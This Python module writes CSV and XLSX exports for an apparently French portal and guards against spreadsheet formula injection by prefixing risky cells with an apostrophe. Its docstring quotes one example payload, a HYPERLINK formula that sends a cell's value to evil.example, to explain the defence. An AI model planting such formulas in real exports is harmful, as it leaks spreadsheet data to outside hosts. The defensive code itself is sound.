"""Every CSV and XLSX file the portal writes goes through these functions (open data streams its own CSV rows,
each cell through `cell_safe`).

CSV: UTF-8 with a byte order mark and semicolons, as French spreadsheet programs open them. XLSX: sheet titles made
valid (31 characters at most, none of []:*?/\\), optional column widths, text cells written as text.

Formula injection: a text cell that starts with = + - @, a tab or a carriage return would be run as a formula by a
spreadsheet program (`=HYPERLINK("http://evil.example/?x="&A2,"Cliquez ici")` in a formation title). `cell_safe`
puts an apostrophe before such text, as OWASP advises, so it shows as typed and is never evaluated; numbers stay
numbers. `cell_restored` takes the apostrophe off again when a file the portal wrote is uploaded back.
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.utils import get_column_letter

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_safe(value):
    """The value as a spreadsheet may hold it: text that a spreadsheet program would read as a formula is prefixed
    with an apostrophe; anything else (numbers, dates, empty cells, ordinary text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cell_restored(text: str) -> str:
    """The text `cell_safe` was given, from the text it returned (an uploaded file the portal wrote)."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def sheet_title(text: str) -> str:
    """A title Excel accepts: the forbidden characters become spaces, then 31 characters at most."""
    cleaned = " ".join(SHEET_TITLE_FORBIDDEN.sub(" ", text).split())
    return cleaned[:31].strip() or "Feuille"


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerows([cell_safe(value) for value in row] for row in rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


@dataclass
class Sheet:
    title: str
    rows: Iterable[Sequence]
    column_width: int | None = None
    columns: int = 0  # how many columns get `column_width`


def xlsx_bytes(sheets: list[Sheet]) -> bytes:
    workbook = Workbook(write_only=True)
    for sheet in sheets:
        worksheet = workbook.create_sheet(title=sheet_title(sheet.title))
        if sheet.column_width:
            for number in range(1, sheet.columns + 1):
                worksheet.column_dimensions[get_column_letter(number)].width = sheet.column_width
        for row in sheet.rows:
            worksheet.append([xlsx_cell(worksheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_cell(worksheet, value):
    """Text as a text cell (never a formula, whatever it starts with), neutralised as in CSV; other values as is."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(worksheet, value=cell_safe(value))
    cell.data_type = "s"
    return cell
